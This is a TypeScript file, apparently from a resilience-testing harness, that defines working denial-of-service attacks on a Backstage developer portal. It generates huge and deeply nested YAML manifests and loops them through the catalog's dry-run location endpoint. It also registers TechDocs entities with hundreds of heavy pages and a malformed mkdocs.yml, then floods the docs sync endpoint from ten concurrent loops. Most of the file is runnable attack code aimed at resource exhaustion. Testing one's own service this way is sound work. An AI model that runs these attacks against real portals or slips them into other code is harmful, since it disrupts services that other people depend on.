import { setTimeout as sleep } from 'node:timers/promises';
import { countStatuses, post, type Attack, type Target } from './target.ts';

const lines = (count: number, line: (at: number) => string) =>
  Array.from({ length: count }, (_, at) => line(at)).join('\n');

const component = (name: string, annotations = '') =>
  `apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: ${name}
  annotations:
    backstage.io/techdocs-ref: dir:.
${annotations}
spec: { type: service, lifecycle: production, owner: group:default/team-payments }
`;

const annotated = (name: string, count: number) =>
  component(
    name,
    lines(count, at => `    k${at}: v`),
  );

/** Some are refused and some just allowed. */
export const manifests = {
  'large.yaml': lines(500_000, at => `key${at}: value`),
  'keys.yaml': lines(30_000, at => `key${at}: v`),
  'deep.yaml': `a: ${'['.repeat(20_000)}`,
  'annotations.yaml': annotated('many', 19_000),
  'one.yaml': annotated('one', 980),
  'many.yaml': lines(199, at => `${annotated(`c${at}`, 85)}---`),
};

/** Has the catalog look at files that cost much, one after the other, as fast as it answers. */
export const yaml: Attack = async (target, signal) => {
  const base = await target.push(manifests);
  const answers = countStatuses();
  while (!signal.aborted) {
    for (const file of Object.keys(manifests)) {
      const body = { type: 'url', target: `${base}/${file}` };
      const path = '/catalog/locations?dryRun=true';
      await post(target, path, { body, signal }).then(
        async answer => {
          answers.add(answer.status);
          await answer.arrayBuffer();
        },
        () => {},
      );
      await sleep(50);
    }
  }
  return `${answers}`;
};

const pages = 300;

/** Docs of many pages that cannot be rendered in the end, so that they are not current after it either. */
const docs = {
  'catalog-info.yaml': component('hostile-docs'),
  'mkdocs.yml': 'site_name: x\nstrict: true\nplugins: [techdocs-core]\n',
  'docs/index.md': '# Pages\n\n[nowhere](./nowhere.md)\n',
  ...Object.fromEntries(
    Array.from({ length: pages }, (_, at) => [
      `docs/page${at}.md`,
      lines(
        300,
        line => `## Heading ${line}\n\n\`\`\`c\nint a${line};\n\`\`\``,
      ),
    ]),
  ),
};

/** What is refused as soon as its mkdocs.yml has been read, after all of it has been fetched. */
const refusedDocs = {
  ...docs,
  'catalog-info.yaml': component('hostile-refused'),
  'mkdocs.yml': `nav: ${']'.repeat(60_000)}`,
};

/** Registers the entity of new files, and waits for the catalog to have it. */
async function register(
  target: Target,
  files: Record<string, string>,
  { name, signal }: { name: string; signal: AbortSignal },
): Promise<void> {
  const base = await target.push(files);
  const body = { type: 'url', target: `${base}/catalog-info.yaml` };
  const answer = await post(target, '/catalog/locations', { body, signal });
  if (!answer.ok) throw new Error(await answer.text());
  const entity = `${target.portal}/api/catalog/entities/by-name/component/default/${name}`;
  const headers = { authorization: `Bearer ${target.attacker}` };
  while (!signal.aborted) {
    const { status } = await fetch(entity, { headers, signal });
    if (status === 200) return;
    await sleep(1_000);
  }
}

/** Ten pages at once that wait for docs to be rendered, again and again. */
export const techdocs: Attack = async (target, signal) => {
  const names = ['hostile-docs', 'hostile-refused'];
  await register(target, docs, { name: names[0]!, signal });
  await register(target, refusedDocs, { name: names[1]!, signal });
  const headers = { authorization: `Bearer ${target.attacker}` };
  const answers = countStatuses();
  const one = async (at: number) => {
    const name = names[at % names.length];
    const sync = `${target.portal}/api/techdocs/sync/default/component/${name}`;
    while (!signal.aborted) {
      try {
        const answer = await fetch(sync, { headers, signal });
        answers.add(answer.status);
        await answer.text();
      } catch {
        // It is tried again.
      }
      await sleep(500);
    }
  };
  await Promise.all(Array.from({ length: 10 }, (_, at) => one(at)));
  return `${answers}`;
};
